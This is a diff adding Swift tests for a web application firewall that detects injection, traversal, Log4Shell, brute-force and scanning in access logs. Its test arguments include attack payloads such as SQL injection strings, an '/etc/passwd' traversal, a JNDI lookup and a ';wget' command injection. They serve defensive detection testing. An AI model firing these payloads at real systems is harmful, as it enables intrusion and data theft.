@@ -1,1 +1,144 @@
-// WAF
+import Foundation
+import Parsing
+import Telemetry
+import TestKit
+import Testing
+import WAF
+
+@Suite("Judging requests")
+struct DetectorTests {
+    func line(_ client: String, _ request: String, status: Int = 200, agent: String = "Mozilla/5.0", second: Int = 0) -> [UInt8] {
+        let clock = String(format: "%02d:%02d", second / 60 % 60, second % 60)
+        return Array("\(client) - - [23/Nov/2026:14:\(clock) +0000] \"\(request)\" \(status) 100 \"-\" \"\(agent)\"".utf8)
+    }
+
+    func observe(_ detector: Detector, _ lines: [[UInt8]]) throws {
+        for line in lines { detector.observe(try #require(AccessLogParser.parse(line[...])), at: 0) }
+    }
+
+    @Test(
+        "Attacks in the request line are found, however they are encoded",
+        arguments: [
+            ("/p?id=1%20UNION%20SELECT%20password", AttackFamily.sqlInjection), ("/p?id=1+union+all+select+1", .sqlInjection),
+            ("/p?id=1%2527%2520or%25201=1", .sqlInjection), ("/?q=%3CScRiPt%3Ealert(1)", .crossSiteScripting),
+            ("/static/..%2f..%2f..%2fetc/passwd", .pathTraversal), ("/?x=$%7bjndi:ldap://e%7d", .log4Shell), ("/.env", .probing),
+            ("/?c=;wget%20http://x", .commandInjection),
+        ])
+    func signatures(uri: String, family: AttackFamily) throws {
+        var decoder = RequestDecoder()
+        let found = Signatures().match(request: decoder.decode(Array(uri.utf8)[...]))
+        #expect(found?.family == family, "\(uri)")
+    }
+
+    @Test(
+        "Ordinary shop requests are left alone",
+        arguments: [
+            "/catalogsearch/result/?q=select+union+jacket", "/search?q=o%27neill", "/p?q=%3C3", "/women/tops.html?p=2&color=49",
+            "/checkout/cart/add/uenc/aHR0cHM6Ly9zaG9w/product/14/", "/media/catalog/product/a/b/ab-1.jpg",
+            "/?utm_source=a&gclid=x_y-z",
+            "/search?q=drop+earrings", "/search?q=50%25+off", "/search?q=r%e9gion",
+        ])
+    func ordinary(uri: String) {
+        var decoder = RequestDecoder()
+        let found = Signatures().match(request: decoder.decode(Array(uri.utf8)[...]))
+        #expect(found == nil, "\(uri)")
+    }
+
+    @Test("One signature makes no offender; repetition does")
+    func repetition() throws {
+        let detector = Detector(exempt: [])
+        try observe(detector, [line("192.0.2.1", "GET /?q='%20or%201=1 HTTP/1.1")])
+        #expect(detector.offenders().isEmpty)
+        try observe(detector, (1...3).map { line("192.0.2.1", "GET /?q='%20or%201=1&n=\($0) HTTP/1.1", second: $0) })
+        #expect(detector.offenders().map(\.address) == ["192.0.2.1"])
+    }
+
+    @Test("Login attempts in quick succession are brute force; a person who mistypes is left alone")
+    func bruteForce() throws {
+        let detector = Detector(exempt: [])
+        try observe(
+            detector, (0..<4).map { line("192.0.2.2", "POST /customer/account/loginPost HTTP/1.1", status: 302, second: $0 * 5) })
+        try observe(
+            detector, (0..<8).map { line("192.0.2.3", "POST /customer/account/loginPost HTTP/1.1", status: 302, second: $0) })
+        let offenders = detector.offenders()
+        #expect(offenders.map(\.address) == ["192.0.2.3"])
+        #expect(offenders.first?.score.family == .bruteForce)
+    }
+
+    @Test("Many different refused paths are a scan; one path refused often is not")
+    func probing() throws {
+        let detector = Detector(exempt: [])
+        try observe(detector, (0..<30).map { line("192.0.2.4", "GET /missing.jpg HTTP/1.1", status: 404, second: $0 / 10) })
+        try observe(detector, (0..<15).map { line("192.0.2.5", "GET /old/\($0).zip HTTP/1.1", status: 404, second: $0 / 10) })
+        #expect(detector.offenders().map(\.address) == ["192.0.2.5"])
+    }
+
+    @Test("Own addresses are never judged; behind a trusted proxy the client counts")
+    func exempt() throws {
+        let detector = Detector(exempt: [try #require(Network("10.0.0.0/8"))])
+        let attack = "GET /?q='%20or%201=1 HTTP/1.1"
+        try observe(detector, (0..<5).map { line("10.1.2.3", attack, second: $0) })
+        #expect(detector.offenders().isEmpty)
+        let forwarded = (0..<5).map { line("10.1.2.3", attack, second: $0) + Array(" \"198.51.100.7, 10.0.0.9\"".utf8) }
+        try observe(detector, forwarded)
+        #expect(detector.offenders().map(\.address) == ["198.51.100.7"])
+    }
+
+    @Test("A score fades, and its series ends")
+    func fading() throws {
+        let detector = Detector(exempt: [])
+        try observe(detector, (0..<4).map { line("192.0.2.1", "GET /?q='%20or%201=1&n=\($0) HTTP/1.1", second: $0) })
+        let first = detector.snapshot(at: 1000)
+        #expect(first.series.contains { first.labels(of: $0)["address"] == "192.0.2.1" })
+        try observe(detector, [line("192.0.2.1", "GET / HTTP/1.1", second: 3000)])
+        #expect(detector.offenders().isEmpty)
+        let second = detector.snapshot(at: 2000)
+        let series = try #require(second.series.first { second.labels(of: $0)["address"] == "192.0.2.1" })
+        #expect(second.values[series.samples.lowerBound].bitPattern == SampleBatch.staleMarker.bitPattern)
+    }
+
+    @Test("No real access line makes its reader an offender", .enabled(if: SharedMaterial.isPresent, "needs ../shared"))
+    func realLines() throws {
+        let folder = try SharedMaterial.url("suites/waf/access")
+        let detector = Detector(exempt: [])
+        var count = 0
+        for file in try FileManager.default.contentsOfDirectory(at: folder, includingPropertiesForKeys: nil).sorted(by: {
+            $0.path < $1.path
+        }) {
+            for text in try Data(contentsOf: file).split(separator: UInt8(ascii: "\n")) {
+                guard let record = AccessLogParser.parse(Array(text)[...]) else { continue }
+                detector.observe(record, at: 0)
+                count += 1
+            }
+        }
+        #expect(count >= 5000)
+        #expect(detector.offenders().count <= 2, "\(detector.offenders().map { ($0.address, $0.score.evidence) })")
+    }
+}
+
+@Suite("Addresses")
+struct NetworkTests {
+    @Test(
+        "Ranges hold what lies in them",
+        arguments: [
+            ("10.0.0.0/8", "10.255.1.2", true), ("10.0.0.0/8", "11.0.0.1", false), ("192.0.2.7", "192.0.2.7", true),
+            ("2001:db8::/32", "2001:db8:1::5", true), ("2001:db8::/32", "2001:db9::1", false),
+            ("10.0.0.0/8", "::ffff:10.1.1.1", true),
+            ("0.0.0.0/0", "not an address", false),
+        ])
+    func contains(network: String, address: String, expected: Bool) throws {
+        #expect(try #require(Network(network)).contains(address) == expected)
+    }
+
+    @Test("What is no range is refused", arguments: ["", "10.0.0.0/33", "10.0.0/8", "x", "10.0.0.0/-1"])
+    func refused(text: String) {
+        #expect(Network(text) == nil)
+    }
+
+    @Test("IPv6 clients are counted by their /64")
+    func prefix() {
+        #expect(ClientAddress.key(Array("2001:db8:1:2:3::4".utf8)[...]) == "2001:db8:1:2::/64")
+        #expect(ClientAddress.key(Array("::ffff:192.0.2.1".utf8)[...]) == "192.0.2.1")
+        #expect(ClientAddress.key(Array("unix:".utf8)[...]) == nil)
+    }
+}
